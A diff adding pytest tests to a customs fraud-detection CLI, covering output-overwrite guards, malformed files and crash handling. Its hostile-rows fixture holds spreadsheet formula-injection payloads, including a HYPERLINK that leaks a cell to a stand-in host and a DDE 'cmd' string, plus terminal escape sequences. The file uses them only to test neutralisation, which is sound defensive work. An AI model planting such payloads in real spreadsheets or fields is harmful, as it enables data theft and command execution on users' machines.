@@ -6,11 +6,17 @@ records, a row in the rejects file with its reason, or exit code 2 with one sent
 naming the file and what to do.
 """
 
+import os
+import sys
+import tempfile
+from datetime import date, timedelta
+
 import polars as pl
 import pytest
 from conftest import GOOD_ROW
 from typer.testing import CliRunner
 
+from detector import DetectorError
 from detector.cli import app
 
 HEADER = ",".join(GOOD_ROW)
@@ -283,3 +289,406 @@ def test_row_with_fewer_fields_names_what_is_missing(tmp_path):
     CliRunner().invoke(app, ["validate", str(path), "--rejects", str(rejects)])
     reason = pl.read_csv(rejects, infer_schema=False)["reject_reason"][0]
     assert reason == "missing required net_mass_kg; missing required customs_value"
+
+
+# ------------------------------------------------------- outputs never destroy inputs
+def _snapshot(folder) -> dict[str, bytes]:
+    return {
+        str(p.relative_to(folder)): p.read_bytes()
+        for p in sorted(folder.rglob("*"))
+        if p.is_file() and not p.is_symlink()
+    }
+
+
+def _careless_setup(tmp_path):
+    """An input, a model file, a store, a folder of the user's, a folder of inputs."""
+    rows = [{**GOOD_ROW, "declaration_id": f"D{i}"} for i in range(1_000)]
+    pl.DataFrame(rows).write_csv(tmp_path / "in.csv")
+    (tmp_path / "model.joblib").write_bytes(b"a model of the user's")
+    (tmp_path / "store").mkdir()
+    (tmp_path / "store" / "outcomes.parquet").write_bytes(b"outcomes")
+    (tmp_path / "archive").mkdir()
+    for month in ("jan", "feb"):
+        pl.DataFrame(rows[:5]).write_parquet(tmp_path / "archive" / f"{month}.parquet")
+    (tmp_path / "indir").mkdir()
+    pl.DataFrame(rows[:5]).write_parquet(tmp_path / "indir" / "part.parquet")
+    (tmp_path / "link.csv").symlink_to(tmp_path / "in.csv")
+    pl.DataFrame({"declaration_id": ["D1"], "fraud": [1]}).write_csv(tmp_path / "o.csv")
+
+
+SCORE = ["score", "in.csv", "--model", "model.joblib"]
+CARELESS = {
+    "list over its input": (SCORE + ["--out", "in.csv", "--top", "20"], "overwrite the input"),
+    "report over the input": (SCORE + ["--out", "f.csv", "--report", "in.csv"], "the input"),
+    "report over the model": (SCORE + ["--out", "f.csv", "--report", "model.joblib"], "model"),
+    "list over the model": (SCORE + ["--out", "model.joblib"], "overwrite the model"),
+    "rejects over the list": (SCORE + ["--out", "x.csv", "--rejects", "x.csv"], "--out output"),
+    "list through a link to the input": (SCORE + ["--out", "link.csv"], "the input"),
+    "list into the store": (SCORE + ["--out", "store/x.csv", "--store", "store"], "label store"),
+    "list folder over a folder of the user's": (SCORE + ["--out", "archive"], "did not write"),
+    "list folder over its input folder": (
+        ["score", "indir", "--model", "model.joblib", "--out", "indir"],
+        "overwrite the input",
+    ),
+    "list inside its input folder": (
+        ["score", "indir", "--model", "model.joblib", "--out", "indir/x.parquet"],
+        "overwrite the input",
+    ),
+    "validate rejects over its input": (["validate", "in.csv", "--rejects", "in.csv"], "input"),
+    "validate list over its input glob": (["validate", "*.csv", "--out", "in.csv"], "input"),
+    "feedback rejects over the outcomes": (
+        ["feedback", "o.csv", "--store", "store", "--rejects", "o.csv"],
+        "outcomes file",
+    ),
+    "model over the training file": (["train", "in.csv", "--model", "in.csv"], "overwrite"),
+    "monitor report into the store": (
+        ["monitor", "--store", "store", "--report", "store/r.html"],
+        "label store",
+    ),
+    "list to a device": (SCORE + ["--out", "/dev/null"], "not a regular file"),
+    "report to a folder": (SCORE + ["--out", "f.csv", "--report", "store"], "is a folder"),
+    "report in a missing folder": (SCORE + ["--out", "f.csv", "--report", "no/r.html"], "exist"),
+}
+
+
+@pytest.mark.parametrize("case", CARELESS)
+def test_no_output_may_replace_an_input_the_model_the_store_or_another_output(
+    tmp_path, monkeypatch, case
+):
+    _careless_setup(tmp_path)
+    monkeypatch.chdir(tmp_path)
+    before = _snapshot(tmp_path)
+    args, fragment = CARELESS[case]
+    result = CliRunner().invoke(app, args)
+    assert result.exit_code == 2, result.output
+    assert fragment in result.output
+    assert len(result.output.strip().splitlines()) == 1
+    assert _snapshot(tmp_path) == before  # nothing written, nothing lost
+
+
+def test_a_folder_output_replaces_only_a_folder_it_wrote(tmp_path):
+    from detector.output import write_table
+
+    df = pl.DataFrame({"declaration_date": [date(2025, 1, 1)], "a": [1]})
+    write_table(df, tmp_path / "out")
+    write_table(df.with_columns(a=pl.lit(2)), tmp_path / "out")  # its own: replaced
+    assert pl.read_parquet(tmp_path / "out", hive_partitioning=True)["a"].to_list() == [2]
+    df.write_parquet(tmp_path / "out" / "mine.parquet")  # one file of the user's in it
+    with pytest.raises(DetectorError, match="did not write \\(mine.parquet\\)"):
+        write_table(df, tmp_path / "out")
+
+
+def test_xlsx_without_xlsxwriter_is_refused_before_any_work_naming_the_users_file(
+    tmp_path, monkeypatch
+):
+    _careless_setup(tmp_path)
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
+    result = CliRunner().invoke(app, SCORE + ["--out", "flagged.xlsx"])
+    assert result.exit_code == 2
+    assert "Writing flagged.xlsx needs the xlsxwriter package" in result.output
+    assert ".tmp" not in result.output
+
+
+def test_a_model_that_is_a_folder_is_exit_2(tmp_path, monkeypatch):
+    _careless_setup(tmp_path)
+    monkeypatch.chdir(tmp_path)
+    result = CliRunner().invoke(app, ["score", "in.csv", "--model", "store", "--out", "f.csv"])
+    assert result.exit_code == 2
+    assert "Model store is a folder" in result.output
+
+
+# --------------------------------------------------------------- hostile file content
+def _stray_quote_file(path, closed: bool = True):
+    rows = [
+        {**GOOD_ROW, "declaration_id": f"D{i}", "customs_office": "SEA"} for i in range(1, 1001)
+    ]
+    lines = [",".join(rows[0])] + [",".join(r.values()) for r in rows]
+    lines[101] = lines[101].replace(",SEA", ',"SEA01')
+    if closed:
+        lines[106] = lines[106].replace(",SEA", ',SEA02"')
+    path.write_text("\n".join(lines) + "\n")
+
+
+def test_a_stray_quote_loses_no_row_silently(tmp_path):
+    path, rejects = tmp_path / "in.csv", tmp_path / "r.csv"
+    _stray_quote_file(path)
+    result = CliRunner().invoke(app, ["validate", str(path), "--rejects", str(rejects)])
+    assert result.exit_code == 0
+    assert "read 995 rows = 994 accepted + 1 rejected" in result.output
+    assert "has 1,000 lines after its header but 995 rows were read" in result.output
+    rejected = pl.read_csv(rejects, infer_schema=False)
+    assert rejected["declaration_id"].to_list() == ["D101"]  # the id of line 101...
+    assert "customs_office 'SEA01" in rejected["reject_reason"][0]
+    assert "spans lines" in rejected["reject_reason"][0]  # ...not scored with line 106's numbers
+
+
+def test_a_quote_never_closed_names_its_line(tmp_path):
+    path = tmp_path / "in.csv"
+    _stray_quote_file(path, closed=False)
+    result = CliRunner().invoke(app, ["validate", str(path)])
+    assert result.exit_code == 2
+    assert "has a quote on line 102 that is not closed" in result.output
+
+
+def test_ids_repeated_in_blocks_are_rejected_without_a_panic(tmp_path, synthetic_year):
+    """Polars' pl.format panicked on this layout (a text column in several chunks)."""
+    block = synthetic_year.head(300)
+    path = tmp_path / "in.csv"
+    pl.concat([block, block, block]).write_csv(path)
+    result = CliRunner().invoke(app, ["validate", str(path)])
+    assert result.exit_code == 0, result.output
+    assert "read 900 rows = 300 accepted + 600 rejected" in result.output
+
+
+def test_an_unexpected_failure_is_one_sentence_and_a_log_file(tmp_path, monkeypatch):
+    import detector.ingest
+
+    def panic(*args, **kwargs):
+        raise pl.exceptions.PanicException("assertion failed: i < self.len()\nplan: " + "x" * 9999)
+
+    monkeypatch.setattr(detector.ingest, "read_declarations", panic)
+    monkeypatch.setenv("TMPDIR", str(tmp_path))
+    monkeypatch.setattr(tempfile, "tempdir", None)
+    path = tmp_path / "in.csv"
+    path.write_bytes(_csv(HEADER, ROW))
+    result = CliRunner().invoke(app, ["validate", str(path)])
+    assert result.exit_code == 1
+    assert len(result.output.strip().splitlines()) == 1
+    assert "PanicException: assertion failed: i < self.len()" in result.output
+    log = next(tmp_path.glob("detector-failure-*.txt"))
+    assert str(log) in result.output and "x" * 9999 in log.read_text()
+
+
+NESTED = {
+    "customs_value as a list": ("customs_value", [[5000.0]], "customs_value' is of type List"),
+    "importer_id as a list": ("importer_id", [["IM1"]], "importer_id' is of type List"),
+    "date as a duration": ("declaration_date", [timedelta(days=3)], "declaration_date' is of"),
+}
+
+
+@pytest.mark.parametrize("case", NESTED)
+def test_a_parquet_column_of_a_nested_type_is_exit_2_naming_it(tmp_path, case):
+    column, value, fragment = NESTED[case]
+    frame = pl.DataFrame([GOOD_ROW]).with_columns(pl.Series(column, value))
+    frame.write_parquet(tmp_path / "in.parquet")
+    result = CliRunner().invoke(app, ["validate", str(tmp_path / "in.parquet")])
+    assert result.exit_code == 2, result.output
+    assert fragment in result.output and "in.parquet" in result.output
+
+
+def test_an_extra_column_of_lists_is_carried_as_text(tmp_path):
+    frame = pl.DataFrame([GOOD_ROW]).with_columns(pl.Series("tags", [["a", "b"]]))
+    frame.write_parquet(tmp_path / "in.parquet")
+    out = tmp_path / "ok.csv"
+    result = CliRunner().invoke(app, ["validate", str(tmp_path / "in.parquet"), "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    assert pl.read_csv(out)["tags"].to_list() == ['["a","b"]']
+
+
+def test_a_glob_through_links_up_the_tree_reads_each_file_once(tmp_path):
+    data = tmp_path / "data"
+    (data / "day").mkdir(parents=True)
+    pl.DataFrame([GOOD_ROW]).write_parquet(data / "day" / "a.parquet")
+    (data / "up").symlink_to(tmp_path)  # a link back up the tree
+    (data / "day" / "loop").symlink_to(data)  # and a loop
+    result = CliRunner().invoke(app, ["validate", f"{data}/**/*.parquet"])
+    assert result.exit_code == 0, result.output
+    assert "read 1 rows = 1 accepted + 0 rejected" in result.output
+
+
+def test_a_header_of_a_hundred_thousand_columns_is_refused(tmp_path):
+    path = tmp_path / "wide.csv"
+    path.write_text(HEADER + "," + ",".join(f"c{i}" for i in range(100_000)) + "\n" + ROW + "\n")
+    result = CliRunner().invoke(app, ["validate", str(path)])
+    assert result.exit_code == 2
+    assert "has 100,008 columns; a declarations table has at most 2,000" in result.output
+
+
+def test_text_too_long_for_a_worksheet_cell_is_cut_with_a_note(tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    from detector.output import write_table
+
+    write_table(pl.DataFrame({"note": ["x" * 40_000, "short"]}), tmp_path / "t.xlsx")
+    cells = [c.value for c in openpyxl.load_workbook(tmp_path / "t.xlsx").active["A"]][1:]
+    assert len(cells[0]) <= 32_767 and cells[0].startswith("x" * 30_000)
+    assert "[cut: 40000 characters in all" in cells[0]
+    assert cells[1] == "short"
+
+
+def test_a_rename_is_made_durable_by_syncing_the_folder(tmp_path, monkeypatch):
+    import stat
+
+    from detector.output import write_table
+
+    synced = []
+    real = os.fsync
+
+    def spy(fd):
+        synced.append(stat.S_ISDIR(os.fstat(fd).st_mode))
+        real(fd)
+
+    monkeypatch.setattr(os, "fsync", spy)
+    write_table(pl.DataFrame({"a": [1]}), tmp_path / "t.csv")
+    assert synced == [False, True]  # the file, then its folder after the rename
+
+
+# ------------------------------------------------- hostile rows through a real model
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://x/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1)",
+    "@SUM(1)",
+    "-2+3",
+]
+
+
+@pytest.fixture(scope="module")
+def hostile(trained_model, tmp_path_factory):
+    """Clean recent rows, with formulas in text fields and copies declared at value 0."""
+    model, _, recent = trained_model
+    clean = pl.read_parquet(recent).filter(pl.col("true_fraud") == 0).head(3_000)
+    formulas = clean.head(len(HOSTILE_TEXT)).with_columns(
+        pl.Series("declaration_id", [f"F{i}" for i in range(len(HOSTILE_TEXT))]),
+        pl.Series("importer_id", HOSTILE_TEXT),
+        pl.Series("seller_id", HOSTILE_TEXT),
+        pl.Series("customs_office", HOSTILE_TEXT),
+    )
+    free = clean.slice(1_000, 40).with_columns(pl.format("Z{}", pl.col("declaration_id")))
+    zero = free.with_columns(customs_value=pl.lit(0.0))
+    folder = tmp_path_factory.mktemp("hostile")
+    path = folder / "in.parquet"
+    pl.concat([clean, formulas, zero]).write_parquet(path)
+    return model, path, folder
+
+
+@pytest.mark.slow
+def test_a_declared_value_of_zero_is_judged_as_the_extreme_of_undervaluation(hostile):
+    model, path, folder = hostile
+    out = folder / "zero.parquet"
+    result = CliRunner().invoke(app, ["score", str(path), "--model", str(model), "--out", str(out)])
+    assert result.exit_code == 0, result.output
+    scored = pl.read_parquet(out)
+    zero = scored.filter(pl.col("declaration_id").str.starts_with("Z"))
+    assert zero.height == 40
+    assert (zero["value_ratio"] < 0.05).all()  # judged at 0.01: below 5 % of any peer price
+    assert (zero["reasons"].str.contains("UNDERVALUED")).all()
+    taxed = zero.filter(pl.col("duty_rate_pct") > 0)
+    assert taxed.height and (taxed["revenue_at_stake"] > 0).all()
+    # Among the most suspicious 5 % of the batch, every one.
+    assert (zero["rank"] <= 0.05 * scored.height).all(), zero["rank"].to_list()
+
+
+@pytest.mark.slow
+def test_no_text_field_becomes_a_live_formula_in_a_workbook_or_a_csv(hostile):
+    openpyxl = pytest.importorskip("openpyxl")
+    model, path, folder = hostile
+    book, csv = folder / "f.xlsx", folder / "f.csv"
+    for out in (book, csv):
+        args = ["score", str(path), "--model", str(model), "--out", str(out), "--top", "100%"]
+        result = CliRunner().invoke(app, args)
+        assert result.exit_code == 0, result.output
+    workbook = openpyxl.load_workbook(book)
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert not [c.coordinate for c in cells if c.hyperlink is not None]
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert set(HOSTILE_TEXT) <= texts  # kept as the text it was
+    listed = pl.read_csv(csv, infer_schema=False)
+    starts = listed.select(pl.col(pl.String).str.slice(0, 1)).unpivot()["value"]
+    assert not starts.is_in(["=", "+", "@", "\t", "\r"]).any()
+    formulas = listed.filter(pl.col("declaration_id").str.starts_with("F"))
+    assert sorted(formulas["importer_id"]) == sorted(f"'{t}" for t in HOSTILE_TEXT)
+    # Read back, the list gives the original text: a scored list is a valid input.
+    again = folder / "again.csv"
+    result = CliRunner().invoke(
+        app, ["validate", str(csv), "--out", str(again)], catch_exceptions=False
+    )
+    assert result.exit_code == 0, result.output
+    back = pl.read_csv(again, infer_schema=False).filter(
+        pl.col("declaration_id").str.starts_with("F")
+    )
+    assert sorted(back["seller_id"]) == sorted(f"'{t}" for t in HOSTILE_TEXT)  # quoted again
+    raw = pl.read_parquet(folder / "again.parquet") if False else None
+    assert raw is None
+
+
+@pytest.mark.slow
+def test_explain_shows_escape_sequences_instead_of_obeying_them(trained_model, tmp_path):
+    model, _, recent = trained_model
+    rows = pl.read_parquet(recent).head(500)
+    rows = rows.with_columns(
+        pl.when(pl.int_range(pl.len()) == 0)
+        .then(pl.lit("IM\x1b[2J\x1b]0;owned\x07"))
+        .otherwise(pl.col("importer_id"))
+        .alias("importer_id")
+    )
+    rows.write_parquet(tmp_path / "in.parquet")
+    ident = rows["declaration_id"][0]
+    args = ["explain", ident, "--model", str(model), "--input", str(tmp_path / "in.parquet")]
+    result = CliRunner().invoke(app, args)
+    assert result.exit_code == 0, result.output
+    assert "\x1b" not in result.output and "\x07" not in result.output
+    assert "IM\\x1b[2J" in result.output
+    assert "e+" not in result.output  # no scientific notation
+
+
+@pytest.mark.slow
+def test_a_nested_column_in_score_is_exit_2_like_validate(trained_model, tmp_path):
+    model, _, recent = trained_model
+    rows = pl.read_parquet(recent).head(200)
+    rows.with_columns(pl.concat_list("customs_value")).write_parquet(
+        tmp_path / "in.parquet"
+    )
+    args = ["score", str(tmp_path / "in.parquet"), "--model", str(model), "--out", "x.csv"]
+    result = CliRunner().invoke(app, args)
+    assert result.exit_code == 2, result.output
+    assert "column 'customs_value' is of type List(Float64)" in result.output
+    assert len(result.output.strip().splitlines()) == 1
+
+
+@pytest.mark.slow
+def test_a_rejects_file_with_nothing_rejected_has_its_header(trained_model, tmp_path):
+    model, _, recent = trained_model
+    pl.read_parquet(recent).head(300).write_parquet(tmp_path / "in.parquet")
+    rejects = tmp_path / "r.csv"
+    args = ["score", str(tmp_path / "in.parquet"), "--model", str(model)]
+    args += ["--out", str(tmp_path / "o.csv"), "--rejects", str(rejects)]
+    assert CliRunner().invoke(app, args).exit_code == 0
+    back = pl.read_csv(rejects)
+    assert back.height == 0 and {"input_row", "declaration_id", "reject_reason"} <= set(
+        back.columns
+    )
+
+
+@pytest.mark.slow
+def test_sigterm_leaves_no_work_folder_and_no_output(trained_model, tmp_path):
+    import signal
+    import subprocess
+    import time
+
+    model, _, recent = trained_model
+    big = pl.concat([pl.read_parquet(recent)] * 8).with_columns(
+        pl.format("{}-{}", pl.col("declaration_id"), pl.int_range(pl.len()))
+    )
+    big.write_parquet(tmp_path / "in.parquet")
+    work = tmp_path / "tmp"
+    work.mkdir()
+    out = tmp_path / "o.csv"
+    process = subprocess.Popen(
+        [sys.executable, "-m", "detector", "score", str(tmp_path / "in.parquet")]
+        + ["--model", str(model), "--out", str(out)],
+        env={**os.environ, "TMPDIR": str(work)},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+    )
+    deadline = time.monotonic() + 120
+    while not any(work.glob("detector-*")) and time.monotonic() < deadline:
+        assert process.poll() is None, process.stdout.read()
+        time.sleep(0.05)
+    process.send_signal(signal.SIGTERM)
+    output = process.communicate(timeout=120)[0]
+    assert process.returncode == 143, output
+    assert "terminated; no output was written" in output
+    assert list(work.iterdir()) == [] and not out.exists()
